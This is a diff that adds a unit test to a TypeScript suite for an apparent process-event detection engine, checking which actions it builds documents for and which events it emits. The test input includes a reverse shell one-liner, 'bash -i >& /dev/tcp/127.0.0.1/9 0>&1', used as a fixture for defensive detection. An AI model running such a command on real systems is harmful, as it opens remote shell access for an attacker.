@@ -73,6 +73,17 @@ describe('Engine', () => {
     return new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget }), clock, emitEvents });
   }
 
+  it('builds documents only for the actions its rules read, and for every action when it writes events', async () => {
+    const quiet = await engine(new SteppedClock());
+    quiet.handleBatch(reverseShellLaunch(210, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), collector());
+    // The bundled rules read execs: fork and end update the table and build nothing.
+    expect((quiet as unknown as { stream: ProcessEventStream }).stream.stats().documents).toMatchObject({ exec: 2, fork: 0, end: 0 });
+    const loud = await engine(new SteppedClock(), true);
+    const out = collector();
+    loud.handleBatch(reverseShellLaunch(211, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), out);
+    expect(out.events.map((e) => (e.event as { action: string }).action)).toEqual(['fork', 'exec', 'exec', 'end']);
+  });
+
   it('alerts on setsid launched from a shell with a /dev/tcp redirect, attributed to the wrapper', async () => {
     const clock = new SteppedClock();
     const e = await engine(clock);
